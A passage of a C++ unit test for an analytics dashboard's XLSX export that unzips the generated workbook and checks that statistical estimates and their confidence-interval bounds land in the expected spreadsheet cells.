    CHECK(line.find("," + analytics::formatShortest(dim.gap) + "," + analytics::formatShortest(dim.tkiPct) +
                    ",") != std::string::npos);

    // XLSX: lower and upper bound as numbers right after each estimate.
    const WebReply xlsx = get(d, "/dashboard/office/53.01", period + "&format=xlsx&lang=en", cookie, now);
    REQUIRE(xlsx.status == 200);
    const fs::path file = fx.dir / "office.xlsx";
    { std::ofstream(file, std::ios::binary) << xlsx.body; }
    auto sheet = [&](int n) {
        const fs::path out = fx.dir / ("sheet" + std::to_string(n) + ".xml");
        REQUIRE(std::system(("unzip -p '" + file.string() + "' xl/worksheets/sheet" + std::to_string(n) +
                             ".xml > '" + out.string() + "'")
                                .c_str()) == 0);
        auto xml = analytics::readWholeFile(out);
        REQUIRE(xml);
        return *xml;
    };
    const std::string summary = sheet(1);
    // Summary rows: from, to, instrument, n, gap (row 7: value B, bounds C and D).
    CHECK(close(xlsxNumber(summary, "B7"), rep.overall->gap));
    CHECK(close(xlsxNumber(summary, "C7"), rep.overall->gapCi[0]));
    CHECK(close(xlsxNumber(summary, "D7"), rep.overall->gapCi[1]));
    const std::string dims = sheet(2);
    // id A, name B, then E, P, gap and Tki, each with its bounds in the next two columns; the category
    // after them. Dimension 1 is row 4.
    const std::vector<std::pair<double, const analytics::Interval*>> estimates{
        {dim.expectation->mean, &dim.expectation->meanCi},
        {dim.perception.mean, &dim.perception.meanCi},
        {dim.gap, &dim.gapCi},
        {dim.tkiPct, &dim.tkiCi}};
    char column = 'C';
    for (const auto& [value, ci] : estimates) {
        CHECK(close(xlsxNumber(dims, std::string(1, column) + "4"), value));
        CHECK(close(xlsxNumber(dims, std::string(1, char(column + 1)) + "4"), (*ci)[0]));
        CHECK(close(xlsxNumber(dims, std::string(1, char(column + 2)) + "4"), (*ci)[1]));
        column = char(column + 3);
    }
    CHECK(dims.find("<c r=\"O4\" t=\"s\">") != std::string::npos); // the category stays text
}
